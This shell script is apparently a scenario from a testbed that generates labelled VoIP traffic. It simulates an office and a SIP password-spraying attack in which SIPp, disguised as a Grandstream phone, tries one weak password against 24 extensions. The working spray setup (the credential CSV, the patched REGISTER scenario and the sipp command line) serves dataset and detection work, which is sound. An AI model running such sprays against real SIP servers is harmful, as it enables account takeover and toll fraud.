# SIPp tries one password for each of 24 accounts; one of them has it.
relocate example.com 5060 192.168.94 203.0.113 198.19.61
EXTENSIONS=(1301 1302 1303 1304 1305 1306 1307)
EXISTING='^13[0-2][0-9]$'
WEAK=1316
WEAK_PASSWORD=summer2026
open_office
add_attacker sprayer 198.19.61.200
start_office_capture
keep_alive 10
office_day 406 68
printf '%s\n' SEQUENTIAL >"$scratch/sprayed.csv"
for user in {1301..1324}; do echo "$user;;[authentication username=$user password=$WEAK_PASSWORD];" >>"$scratch/sprayed.csv"; done
# The second answer may be 401 or 200.
python3 - "$parts/sipp/register-many.xml" "$scratch/spray.xml" <<'END'
import sys
text = open(sys.argv[1]).read().replace("SIPp [sipp_version]", "Grandstream GXP2160 1.0.11.74")
ok = '<recv response="200"/>'
text = text.replace(ok, '<recv response="401" optional="true" next="end"/>\n\n  ' + ok + '\n\n  <label id="end"/>')
open(sys.argv[2], "w").write(text)
END
at 16 attack A1 password_cracking sprayer 5060 "SIPp tries one password for each of 24 accounts, one per 1.5 seconds; 1316 has it." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/spray.xml" -nostdin -inf "$scratch/sprayed.csv" \
    -i 198.19.61.200 -p 5060 -r 1 -rp 1500 -m 24 -l 4 192.168.94.1:5060
play
wait_for A1
close_office
